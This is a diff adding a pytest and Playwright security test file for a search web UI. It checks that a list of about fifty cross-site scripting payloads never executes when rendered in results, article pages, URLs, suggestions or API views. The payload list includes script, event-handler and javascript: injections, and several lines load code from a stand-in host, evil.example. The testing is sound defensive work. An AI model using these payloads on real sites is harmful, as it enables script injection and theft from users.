@@ -1,0 +1,216 @@
+"""Hostile text in a real browser: nothing of a document, an address or a query runs, whatever the policy."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import quote
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Dialog, Page, expect, sync_playwright
+
+import webui
+from indexer import Article, Published, open_index
+from tests.webui.test_browser import ARGUMENTS, CHROMIUM
+from tests.webui.test_serve import serving
+
+pytestmark = pytest.mark.skipif(
+    not Path(CHROMIUM).exists(), reason=f"no browser at {CHROMIUM}; install chromium or set CHROMIUM"
+)
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=data:,alert(1)></script>",
+    "<script src=//evil.example/x.js></script>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</mark></a></q><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
+    "<?xml-stylesheet href='javascript:alert(1)'?>",
+    "<img src=x onerror=alert(1)>",
+    '"><img src=x onerror=alert(1)>',
+    "'><img src=x onerror=alert(1)>",
+    "`><img src=x onerror=alert(1)>",
+    "<img/src=x/onerror=alert(1)//",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<input autofocus onfocus=alert(1)>",
+    '" autofocus onfocus="alert(1)',
+    "' autofocus onfocus='alert(1)",
+    '" onmouseover="alert(1)" style="position:fixed;inset:0',
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<form action=javascript:alert(1)><button autofocus>x",
+    "<a href=javascript:alert(1)>x</a>",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:alert(1)",
+    "//evil.example/%0d%0aX:",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "\u202e<script>alert(1)</script>\u2066",
+    "＜script＞alert(1)＜/script＞",
+]
+
+
+# Run from outside the page: what no template writes.
+STRANGE = """() => {
+  const all = [...document.querySelectorAll('*')], places = ['href', 'src', 'action', 'formaction'];
+  const odd = 'script:not([src]), iframe, object, embed, base, svg script, meta[http-equiv]';
+  const leads = (e, name) => e.hasAttribute(name)
+    && !/^https?:$/.test(new URL(e.getAttribute(name), document.baseURI).protocol);
+  return all.filter(e => e.matches(odd) || [...e.attributes].some(a => /^on/i.test(a.name))
+    || places.some(name => leads(e, name))).map(e => e.outerHTML.slice(0, 200));
+}"""
+
+
+def hostile(number: int, text: str) -> Article:
+    return Article(
+        id=f"{number} {text.replace(chr(9), ' ')}",
+        title=f"zebra {text}",
+        paragraphs=(f"zebra {text}", text),
+        published=Published("2021", "year", text, (("2020", text),), text),
+        language=text,
+        url=text,
+        source=text,
+        notes=(text,),
+    )
+
+
+@pytest.fixture(scope="module")
+def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    """A site with the payloads in every field of articles, and of files by their name and author."""
+    folder = tmp_path_factory.mktemp("xss")
+    files = folder / "files"
+    files.mkdir()
+    for number, text in enumerate(PAYLOADS):
+        name = f"{number} {text}".replace("/", "∕").replace("\t", " ")[:80]
+        attribute = text.replace("'", "")
+        (files / f"{name}.html").write_text(
+            f"<html><head><title>okapi {number}</title><meta name=author content='{attribute}'>"
+            f"<link rel=canonical href='{attribute}'></head>"
+            f"<body><article><h1>okapi {number}</h1><p>An okapi came by, and it was {number} years old.</p>"
+            "</article></body></html>",
+            encoding="utf-8",
+        )
+    with open_index(folder / "index", sources=[files], page_size=120, jobs=1) as index:
+        index.sync()
+        index.put(hostile(number, text) for number, text in enumerate(PAYLOADS))
+        with serving(webui.create_app(index)) as found:
+            yield found
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with sync_playwright() as playwright:
+        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
+        yield chromium
+        chromium.close()
+
+
+@pytest.fixture(scope="module", params=[False, True], ids=["with the policy", "without it"])
+def context(request: pytest.FixtureRequest, browser: Browser, address: str) -> Iterator[BrowserContext]:
+    """A browser that obeys the policy of the page, and one that does not: escaping has to hold by itself."""
+    found = browser.new_context(base_url=address, bypass_csp=request.param)
+    yield found
+    found.close()
+
+
+@pytest.fixture
+def tab(context: BrowserContext, address: str) -> Iterator[Page]:
+    """A page that fails the test for a dialog, an error, a breach of the policy, a request to elsewhere."""
+    complaints: list[str] = []
+
+    def close(dialog: Dialog) -> None:
+        complaints.append(f"dialog: {dialog.message}")
+        dialog.dismiss()
+
+    page = context.new_page()
+    page.on("dialog", close)
+    page.on("pageerror", lambda error: complaints.append(str(error)))
+    page.on("console", lambda said: complaints.append(said.text) if "Policy" in said.text else None)
+    page.on(
+        "request",
+        lambda sent: None if sent.url.startswith(address) else complaints.append(f"request to {sent.url}"),
+    )
+    yield page
+    page.close()
+    assert not complaints
+
+
+def look(tab: Page, path: str) -> None:
+    """Load a page, and see that its scripts, frames and links are its own."""
+    tab.goto(path, wait_until="load")
+    strange = tab.evaluate(STRANGE)
+    assert strange == [], path
+
+
+def test_what_documents_say_does_not_run_among_the_results(tab: Page) -> None:
+    for path in ("/?q=zebra", "/?q=okapi", "/?q=zebra&fold=0&sort=title", "/?q=zebra&facet=source", "/"):
+        look(tab, path)
+    tab.goto("/?q=zebra&fold=0")
+    assert tab.locator(".hit").count() == len(PAYLOADS)
+
+
+def test_what_documents_say_does_not_run_where_they_are_read(tab: Page) -> None:
+    for number, text in enumerate(PAYLOADS):
+        name = hostile(number, text).id
+        look(tab, f"/a/?id={quote(name, safe='')}&q=zebra")
+        assert tab.locator("article h1").count() == 1, name
+
+
+def test_what_an_address_says_does_not_run(tab: Page) -> None:
+    for number, text in enumerate(PAYLOADS):
+        said = quote(text, safe="")
+        look(tab, f"/?q=zebra+{said}&source={said}&site={said}&facet={said}#{said}")
+        look(tab, (f"/?q={said}&sort={said}", f"/?q={said}&after={said}")[number % 2])
+        look(tab, (f"/nowhere/{quote(text)}", f"/a/?id=nowhere{said}&q={said}")[number % 2])
+
+
+def test_what_is_suggested_does_not_run(tab: Page) -> None:
+    tab.goto("/")
+    for typed in ("zebr", "script", "alert", "img"):
+        tab.locator("#q").fill(typed)
+        expect(tab.locator("[role=option]").first).to_contain_text(typed)
+        assert tab.evaluate(STRANGE) == [], typed
+        tab.keyboard.press("ArrowDown")
+    for said in ("zebrra", "scriptt alertt", "zebrra <script>alert(1)</script>"):
+        look(tab, f"/?q={quote(said)}")
+    look(tab, "/api/")
+
+
+@pytest.mark.parametrize(
+    "path", ["search?q=zebra", "search?q=zebra&format=atom", "suggest?q=zeb", "timeline?q=zebra"]
+)
+def test_answers_for_programs_do_not_run_when_they_are_looked_at(tab: Page, path: str) -> None:
+    answer = tab.goto(
+        f"/api/{path}&limit=50" if "timeline" not in path else f"/api/{path}", wait_until="load"
+    )
+    assert answer is not None
+    assert answer.ok
+
+
+def test_problems_do_not_run_when_they_are_looked_at(tab: Page) -> None:
+    for text in PAYLOADS[::3]:
+        said = quote(text, safe="")
+        tab.goto(f"/api/search?q={said}&facet={said}", wait_until="load")
+        tab.goto(f"/api/articles/?id={said}", wait_until="load")
